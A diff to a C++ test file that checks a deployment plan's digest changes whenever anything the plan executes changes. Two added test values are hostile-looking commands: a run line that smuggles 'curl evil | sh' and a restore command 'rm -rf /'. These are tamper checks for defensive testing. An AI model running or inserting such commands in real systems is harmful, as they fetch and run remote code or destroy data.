@@ -1,4 +1,5 @@
 #include "playbooks/change/plan_digest.hpp"
+#include "playbooks/deploy_plan.hpp"
 
 #include <doctest/doctest.h>
 
@@ -34,7 +35,7 @@ TEST_CASE("plan digest: stable, independent of host order, changed by every cove
   CHECK(plan_digest(two_host_plan()) == digest);  // another run, another controller: the same
   // Pinned, and computed independently (Python's sha256 over the same
   // canonical JSON): a change to the format voids every stored approval.
-  CHECK(digest == "13c38e8a1418b52b9ced85ec74b3082d1f6ced25877d65fb1cb1a895e60dd3c0");
+  CHECK(digest == "e0d8ad00d8a3d16d944a2e08071d7ce9008d379552cb6881b77d841579a00c6b");
   DeployPlan reordered = plan;
   std::swap(reordered.hosts[0], reordered.hosts[1]);
   CHECK(plan_digest(reordered) == digest);
@@ -59,4 +60,27 @@ TEST_CASE("plan digest: stable, independent of host order, changed by every cove
   CHECK(differs([](DeployPlan& p) { p.hosts[0].current = "a9"; }));  // the host moved
   CHECK(differs([](DeployPlan& p) { p.hosts[2].change = true; }));   // wider scope
   CHECK(differs([](DeployPlan& p) { p.hosts[1].target.release = "a2"; }));
+  CHECK(differs([](DeployPlan& p) { p.executes = "another run line"; }));
+}
+
+TEST_CASE("plan digest: what the change executes is covered, not only what it ships") {
+  Unit unit;
+  unit.name = "reward";
+  unit.run = "bin/reward";
+  unit.health = HealthCheck{"curl -fsS http://x/health"};
+  const std::string base = unit_execution_digest(unit);
+  auto differs = [&](auto change) {
+    Unit u = unit;
+    change(u);
+    return unit_execution_digest(u) != base;
+  };
+  CHECK(unit_execution_digest(unit) == base);
+  CHECK(differs([](Unit& u) { u.run = "bin/reward; curl evil | sh"; }));
+  CHECK(differs([](Unit& u) { u.hooks["before_start"] = "true"; }));
+  CHECK(differs([](Unit& u) { u.health->command = "true"; }));
+  CHECK(differs([](Unit& u) { u.rollout.max_unavailable = {100, true}; }));
+  CHECK(differs([](Unit& u) { u.rollout.canary = 0; }));
+  CHECK(differs([](Unit& u) { u.drain.timeout = std::chrono::seconds(1); }));
+  CHECK(differs([](Unit& u) { u.restore_command = "rm -rf /"; }));
+  CHECK(differs([](Unit& u) { u.deploy_to = "/srv/other"; }));
 }
